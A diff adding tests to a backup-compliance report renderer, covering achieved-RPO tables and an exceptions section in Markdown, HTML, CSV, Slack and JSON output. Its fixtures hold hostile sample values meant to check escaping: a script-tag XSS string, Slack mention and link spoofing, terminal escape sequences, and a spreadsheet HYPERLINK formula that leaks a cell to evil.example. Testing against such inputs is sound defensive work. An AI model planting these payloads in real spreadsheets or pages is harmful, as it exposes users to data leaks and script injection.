@@ -116,6 +116,28 @@ describe('json', () => {
     expect(parsed.fleet.alarmsOpened[0]?.reason.length).toBeLessThanOrEqual(2000);
   });
 
+  it('cuts silence and exclusion reasons to 2000 characters and keeps a missing reason null', () => {
+    const x = parsed.exceptions;
+    expect(Array.from(x.silences[0]?.reason ?? '').length).toBeLessThanOrEqual(2000);
+    expect(x.silences[0]?.reason.endsWith('…')).toBe(true);
+    expect(Array.from(x.exclusions[0]?.reason ?? '').length).toBeLessThanOrEqual(2000);
+    expect(x.exclusions[1]).toEqual({ account: HOSTILE.formula, match: 'rm-legacy-*', reason: null });
+  });
+
+  it('keeps silence authors and matchers as recorded once control characters are removed', () => {
+    const s = parsed.exceptions.silences[0];
+    expect(s?.author).toBe('<!channel> <http://evil.example|click me> & more [31mRED[0m ]8;;http://evil.examplelink]8;;');
+    expect(s?.matchers).toEqual({ target: evil.id, rule: HOSTILE.markdown, labels: { [HOSTILE.quotes]: HOSTILE.formula } });
+    expect(parsed.fleet.worstRpo[0]).toEqual({
+      target: evil.id,
+      longestMs: 72 * 3_600_000,
+      p95Ms: 72 * 3_600_000,
+      openMs: 21 * 3_600_000,
+      objectiveMs: 24 * 3_600_000,
+      met: false,
+    });
+  });
+
   it('removes terminal escapes and bidi overrides from every value, keeping the visible text', () => {
     expect(text).not.toMatch(CONTROL);
     expect(parsed.targets[0]?.instance).toBe('[31mRED[0m ]8;;http://evil.examplelink]8;;');
@@ -227,6 +249,122 @@ describe('a target nobody could judge', () => {
   it('says null in JSON', () => {
     const parsed = JSON.parse(renderJson(r)) as ComplianceReport;
     expect(parsed.targets[0]).toMatchObject({ id: 'never-seen', compliance: null, evidenceCoverage: 0 });
+  });
+});
+
+describe('achieved RPO', () => {
+  const unknown = targetReport({
+    id: 'no-backups-yet',
+    rpo: { longestMs: null, p95Ms: null, openMs: null, objectiveMs: 24 * 3_600_000, met: null, backups: 0 },
+  });
+  const base = sampleReport();
+  const r: ComplianceReport = { ...base, targets: [...base.targets, unknown] };
+  const none: ComplianceReport = { ...base, fleet: { ...base.fleet, worstRpo: [] } };
+
+  it('tabulates the worst achieved RPOs in Markdown, hostile target names escaped, and gives each target a line', () => {
+    const md = renderMarkdown(r);
+    expect(md).toContain('## Worst achieved RPO');
+    expect(md).toContain('| orders-pg | 1d | 1d | 21h | 1d | met |');
+    expect(md).toMatch(/\| evil-\\<script\\>alert\("x"\)\\<\/script\\>A+… \| 3d \| 3d \| 21h \| 1d \| not met \|/);
+    expect(md).toContain('- Achieved RPO: longest gap 3d, 95th percentile 3d, 21h open at the period end; objective 1d: not met');
+    expect(md).toContain('- Achieved RPO: no completed backup on record; objective 1d: n/a');
+  });
+
+  it('tabulates them in HTML and gives each target card a line', () => {
+    const html = renderHtml(r);
+    expect(html).toContain('Worst achieved RPO</h2>');
+    expect(html).toContain('<b style="color:#b42318;">not met</b>');
+    expect(html).toContain('Achieved RPO: longest gap 1d, 95th percentile 1d, 21h open at the period end; objective 1d: met');
+  });
+
+  it('says "none" when no target has a completed backup on record', () => {
+    expect(renderMarkdown(none)).toContain('## Worst achieved RPO\n\nNone: no target has a completed backup on record.');
+    expect(renderHtml(none)).toMatch(/Worst achieved RPO<\/h2><p [^>]*>None: no target has a completed backup on record\.<\/p>/);
+    expect(JSON.stringify(reportSlack(none))).not.toContain('Worst achieved RPO');
+  });
+
+  it('adds hours columns at the end of the CSV, empty when unknown', () => {
+    const rows = parseCsv(renderCsv(r));
+    expect(rows[0]?.slice(-4)).toEqual(['rpo_longest_hours', 'rpo_p95_hours', 'rpo_open_hours', 'rpo_objective_hours']);
+    expect(rows[1]?.slice(-4)).toEqual(['72.00', '72.00', '21.00', '24.00']);
+    expect(rows.find((x) => x[0] === 'no-backups-yet')?.slice(-4)).toEqual(['', '', '', '24.00']);
+  });
+
+  it('names the worst in one Slack line, the name escaped for mrkdwn', () => {
+    const fleet = reportSlack(r).blocks[2];
+    const text = fleet?.type === 'section' ? fleet.text.text : '';
+    expect(text).toMatch(
+      /\nWorst achieved RPO: \*evil-&lt;script&gt;alert\("x"\)&lt;\/script&gt;A+…\* longest gap 3d \(objective 1d, not met\)$/,
+    );
+  });
+});
+
+describe('exceptions', () => {
+  const base = sampleReport();
+  const empty: ComplianceReport = { ...base, exceptions: { silences: [], exclusions: [], disabledRules: [] } };
+  const section = (md: string): string => md.slice(md.indexOf('## Exceptions'), md.indexOf('## Targets'));
+
+  it('lists silences with who, why, window, matchers and held-back count, exclusions and disabled rules in Markdown', () => {
+    const md = section(renderMarkdown(base));
+    expect(md).toContain('| #7 | target evil-\\<script\\>alert("x")\\</script\\>');
+    expect(md).toContain(
+      '| 2026-11-10 09:00 | 2026-11-12 09:00 (expired early) | \\<!channel\\> \\<http://evil.example\\|click me\\> \\& more',
+    );
+    expect(md).toMatch(
+      /\| \\<script\\>alert\("x"\)\\<\/script\\> \\\*\\\*bold\\\*\\\* \\\[link\\\]\(http:\/\/evil\.example\) \\\| cell .*… \| 3 \|/,
+    );
+    expect(md).toContain('| =HYPERLINK("http://evil.example/?leak="\\&A1,"click") | rm-legacy-\\* | no reason given |');
+    expect(md).toContain('| size-anomaly | rules.size-anomaly | 1: orders-pg |');
+    expect(md).toContain('| size-anomaly | targets\\[0\\].rules.size-anomaly | 1: evil-\\<script\\>');
+  });
+
+  it('keeps every row of the Markdown exception tables as wide as its header, whatever the text holds', () => {
+    const md = section(renderMarkdown(base));
+    for (const table of md.split('### ').slice(1)) {
+      const cells = table
+        .split('\n')
+        .filter((l) => l.startsWith('|'))
+        .map((l) => l.replace(/\\\|/g, '').split('|').length);
+      expect(new Set(cells).size).toBe(1);
+    }
+    expect(md).not.toContain('<script>');
+    expect(md).not.toMatch(CONTROL);
+  });
+
+  it('writes the exceptions as typed, without escapes, in the plain-text variant', () => {
+    const text = section(renderMarkdown(base, { plain: true }));
+    expect(text).toContain('<!channel> <http://evil.example|click me> & more');
+    expect(text).toContain('| rm-legacy-* | no reason given |');
+    expect(text).not.toMatch(CONTROL);
+  });
+
+  it('lists them in HTML with every text escaped', () => {
+    const html = renderHtml(base);
+    const part = html.slice(html.indexOf('Exceptions</h2>'), html.indexOf('Targets</h2>'));
+    expect(part).toContain('#7 target evil-&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;');
+    expect(part).toContain('<b>&lt;!channel&gt; &lt;http://evil.example|click me&gt; &amp; more');
+    expect(part).toContain('=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;click&quot;) / rm-legacy-*');
+    expect(part).toContain('no reason given');
+    expect(part).toContain('targets[0].rules.size-anomaly');
+    expect(part).not.toMatch(/<(script|img|a)\b/i);
+    expect(part).not.toContain('END-OF-HUGE');
+  });
+
+  it('says "none" for each empty list', () => {
+    const md = section(renderMarkdown(empty));
+    expect(md).toContain('### Silences\n\nNone: no silence was in force during the period.');
+    expect(md).toContain('### Excluded from coverage\n\nNone.');
+    expect(md).toContain('### Disabled rules\n\nNone: every rule is enabled for every target.');
+    const html = renderHtml(empty);
+    expect(html).toContain('>None: no silence was in force during the period.</p>');
+    expect(html).toContain('>None.</p>');
+    expect(html).toContain('>None: every rule is enabled for every target.</p>');
+  });
+
+  it('groups a rule disabled for many targets by where, naming the first few', () => {
+    const many = Array.from({ length: 12 }, (_, i) => ({ target: `db-${i}`, rule: 'retention', where: 'rules.retention' }));
+    const md = renderMarkdown({ ...base, exceptions: { ...base.exceptions, disabledRules: many } });
+    expect(md).toContain('| retention | rules.retention | 12: db-0, db-1, db-2, db-3, db-4 and 7 more |');
   });
 });
 
